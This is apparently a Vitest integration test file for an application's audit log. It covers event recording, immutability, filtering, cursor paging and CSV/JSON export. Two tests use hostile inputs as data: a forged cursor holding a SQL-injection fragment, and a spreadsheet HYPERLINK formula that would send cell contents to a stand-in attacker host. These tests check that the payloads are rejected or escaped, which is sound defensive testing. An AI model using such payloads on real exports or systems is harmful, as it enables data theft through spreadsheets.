import { randomBytes } from 'node:crypto'
import { buffer } from 'node:stream/consumers'
import { parse } from 'csv-parse/sync'
import { beforeAll, describe, expect, it } from 'vitest'
import { pool } from '@/lib/db'
import { auditContextOf } from '@/lib/audit/audit-context'
import { allAuditEvents, exportAuditLog } from '@/lib/audit/export-audit-log'
import { listAuditEvents, recordAuditEvent } from '@/lib/queries/audit-log'
import { auditExportQuery, auditLogQuery } from '@/lib/validation/audit-log'

// The audit log against PostgreSQL; every event of this run has actions under its own area.
const area = `it${randomBytes(4).toString('hex')}`
const q = (p: Record<string, string | number>) => auditLogQuery.parse({ action: `${area}.*`, ...p })
let teamEventId: string

beforeAll(async () => {
  const admin = { userId: 'u-admin', email: 'Admin@Example.com', role: 'admin' as const }
  const req = new Request('http://x/api/settings/teams', { headers: { 'x-forwarded-for': '6.6.6.6, 203.0.113.9', 'user-agent': 'Mozilla/5.0 test' } })
  const first = await recordAuditEvent({ ...auditContextOf({ kind: 'user', ...admin, name: 'Admin', teamIds: [] }, req), action: `${area}.team.create`, target: { type: 'team', id: 'core' }, teamId: 7, details: { name: 'Core' } })
  teamEventId = first.id
  for (let i = 0; i < 5; i++) await recordAuditEvent({ actor: { tokenId: 42 }, action: `${area}.probe.update`, target: { type: 'probe', id: i }, teamId: 8, ip: '198.51.100.1' })
  await recordAuditEvent({ actor: { userId: 'u-maint', email: 'm@example.com', role: 'maintainer' }, action: `${area}.token.revoke`, target: { type: 'token', id: 42 }, teamId: 8, details: { reason: 'left, "quoted"\nnewline' } })
})

describe('recordAuditEvent', () => {
  it('stores who (user and role at the time), what, from where (the proxy-seen address) and details', async () => {
    const [e] = (await listAuditEvents(q({ targetType: 'team' }))).events
    expect(e).toMatchObject({
      id: teamEventId, actorUserId: 'u-admin', actorEmail: 'Admin@Example.com', actorRole: 'admin', actorTokenId: null,
      action: `${area}.team.create`, targetType: 'team', targetId: 'core', teamId: 7, ip: '203.0.113.9', userAgent: 'Mozilla/5.0 test', details: { name: 'Core' },
    })
    expect(e!.occurredAt).toBeInstanceOf(Date)
  })

  it('events cannot be changed or deleted', async () => {
    await expect(pool().query(`UPDATE audit_event SET action = 'x' WHERE id = $1`, [teamEventId])).rejects.toThrow(/immutable/)
    await expect(pool().query(`DELETE FROM audit_event WHERE id = $1`, [teamEventId])).rejects.toThrow(/immutable/)
  })
})

describe('listAuditEvents', () => {
  it.each([
    [{ actor: 'admin@example.com' }, 1], // emails match whatever their case
    [{ actor: 'u-maint' }, 1],
    [{ actor: 'token:42' }, 5],
    [{ targetType: 'probe', targetId: '3' }, 1],
    [{ team: 8 }, 6],
    [{ action: `${area}.probe.update` }, 5],
    [{ action: `${area}.token.*` }, 1],
    [{ from: new Date(Date.now() + 60_000).toISOString() }, 0],
  ])('filters %o', async (filter, n) => {
    expect((await listAuditEvents(q({ limit: 100, ...filter }))).events).toHaveLength(n)
  })

  it('pages newest first with a cursor, every event once', async () => {
    const seen: string[] = []
    let cursor: string | undefined
    let pages = 0
    do {
      const page = await listAuditEvents(q({ limit: 3, ...(cursor ? { cursor } : {}) }))
      seen.push(...page.events.map((e) => e.id))
      cursor = page.nextCursor ?? undefined
      pages++
    } while (cursor)
    expect(pages).toBe(3)
    expect(seen).toHaveLength(7)
    expect(new Set(seen).size).toBe(7)
    expect(seen.at(-1)).toBe(teamEventId)
  })

  it('refuses a forged cursor (422)', async () => {
    await expect(listAuditEvents(q({ cursor: Buffer.from('["x","1; DROP"]').toString('base64url') }))).rejects.toMatchObject({ code: 'VALIDATION_FAILED' })
  })
})

describe('exportAuditLog', () => {
  it('CSV: one row per event, parsed back by a real CSV parser (details as JSON text)', async () => {
    const out = exportAuditLog(auditExportQuery.parse({ action: `${area}.*`, format: 'csv' }), new Date('2026-11-27T00:00:00Z'))
    expect(out).toMatchObject({ contentType: 'text/csv; charset=utf-8', filename: 'plimsoll-audit-2026-11-27.csv' })
    const rows = parse(await buffer(out.stream), { columns: true }) as Record<string, string>[]
    expect(rows).toHaveLength(7)
    const revoke = rows.find((r) => r.action === `${area}.token.revoke`)!
    expect(JSON.parse(revoke.details!)).toEqual({ reason: 'left, "quoted"\nnewline' })
    expect(rows.at(-1)).toMatchObject({ id: teamEventId, actor_email: 'Admin@Example.com', ip: '203.0.113.9', target_id: 'core' })
  })

  it('reads page by page without losing or repeating an event', async () => {
    const ids: string[] = []
    for await (const e of allAuditEvents({ action: `${area}.*` }, 2)) ids.push(e.id)
    expect(ids).toHaveLength(7)
    expect(new Set(ids).size).toBe(7)
  })

  it('CSV: a cell a spreadsheet would run as a formula is written as text (a User-Agent, an email)', async () => {
    const hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    const req = new Request('http://x/api/settings/teams', { headers: { 'x-forwarded-for': '203.0.113.9', 'user-agent': hostile } })
    const who = { kind: 'user' as const, userId: 'u-csv', email: '@evil.example', role: 'maintainer' as const, name: 'x', teamIds: [] }
    await recordAuditEvent({ ...auditContextOf(who, req), action: `${area}-csv.token.create`, target: { type: 'token', id: '-1+1' }, teamId: 9 })
    const out = exportAuditLog(auditExportQuery.parse({ action: `${area}-csv.*`, format: 'csv' }))
    const [row] = parse(await buffer(out.stream), { columns: true }) as Record<string, string>[]
    expect(row).toMatchObject({ user_agent: `'${hostile}`, actor_email: "'@evil.example", target_id: "'-1+1", team_id: '9' })
  })

  it('JSON: { events }', async () => {
    const out = exportAuditLog(auditExportQuery.parse({ actor: 'token:42', action: `${area}.*`, format: 'json' }))
    const body = JSON.parse((await buffer(out.stream)).toString('utf8'))
    expect(body.events.map((e: { targetId: string }) => e.targetId)).toEqual(['4', '3', '2', '1', '0'])
  })
})
